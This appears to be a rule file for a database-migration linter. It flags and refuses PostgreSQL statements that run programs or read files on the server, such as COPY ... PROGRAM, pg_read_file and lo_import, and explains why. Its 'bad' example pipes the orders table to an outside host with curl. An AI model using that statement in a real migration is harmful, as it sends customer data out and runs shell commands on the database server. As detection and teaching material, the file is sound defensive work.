import type { Rule } from '../src/analyze/rule.js';

// Raised by the dry-run (src/dryrun/merge.ts) for statements it refuses to run at all.
export const rule: Rule = {
  id: 'dry-run-refused',
  risk: 'DANGEROUS',
  title: 'The migration tries to run a program or read files on the database server',
  docs: {
    why: 'COPY … TO/FROM PROGRAM runs a shell command on the database server as the postgres OS user; pg_read_file, lo_import, COPY from a server file and ALTER SYSTEM reach the server\'s files and configuration. None of this belongs in a schema migration, and a pull request that does it may be an attack. The dry-run refuses COPY … PROGRAM before it runs (it also looks inside DO blocks and function bodies); on a real server the migration runs as an unprivileged role, so Postgres itself refuses the others (SQLSTATE 42501).',
    lock: 'None: the statement is refused, not run.',
    instead: 'Load data with COPY … FROM STDIN from the deploy tooling, or with INSERT statements; change server settings through the server\'s configuration management, not a migration.',
    bad: "COPY orders TO PROGRAM 'curl -d @- https://example.com';",
    good: '-- export data from the deploy job: psql -c "\\copy orders TO \'orders.csv\' CSV"',
  },
};

export default rule;
